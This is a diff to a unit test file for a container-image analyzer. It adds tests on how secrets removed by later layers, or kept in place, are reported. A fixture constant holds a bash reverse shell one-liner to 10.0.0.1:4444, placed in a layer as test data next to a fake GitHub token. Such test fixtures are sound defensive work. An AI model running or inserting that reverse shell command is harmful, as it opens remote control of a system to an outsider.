@@ -1,8 +1,12 @@
 """Files are led past the analyzers within bounds."""
 
+from pathlib import Path
+
 from pratique.analyzers import Options, analyze
+from pratique.image import open_image
 from pratique.model import FindingKind
 from tests.unit.analyzers.context import opened
+from tests.unit.image.archives import archive, entry, tar, write
 
 SHELL = b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"
 
@@ -50,3 +54,25 @@ def test_names_that_are_not_text_become_printable() -> None:
 
 def test_hard_limits_do_not_hide_what_could_not_be_placed() -> None:
     assert [unread.path for unread in analyze(opened({"../x": b"x"})).unread] == ["../x"]
+
+
+def test_secret_that_a_later_layer_removes_is_found_and_malware_is_not(tmp_path: Path) -> None:
+    token = "ghp_" + "Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"
+    lower = tar(entry("root/.netrc", f"password {token}".encode()), entry("x.sh", SHELL), entry("d/e", token.encode()))
+    upper = tar(entry("root/.netrc", b"empty"), entry(".wh.x.sh"), entry("d"))
+    with open_image(write(archive([lower, upper], User="app"), tmp_path)) as image:
+        facts = analyze(image)
+    assert [(finding.rule, finding.path) for finding in facts.findings] == [
+        ("github-token", "root/.netrc"),
+        ("github-token", "d/e"),
+    ]
+    assert all("a later layer removes it" in finding.evidence for finding in facts.findings)
+    assert facts.files == 2
+
+
+def test_secret_that_stays_is_told_once(tmp_path: Path) -> None:
+    token = b"ghp_" + b"Ab1Cd2Ef3Gh4Ij5Kl6Mn7Op8Qr9St0Uv1Wx2"
+    layers = [tar(entry("a", token)), tar(entry("a", b"more\n" + token))]
+    with open_image(write(archive(layers, User="app"), tmp_path)) as image:
+        (finding,) = analyze(image).findings
+    assert "removes" not in finding.evidence
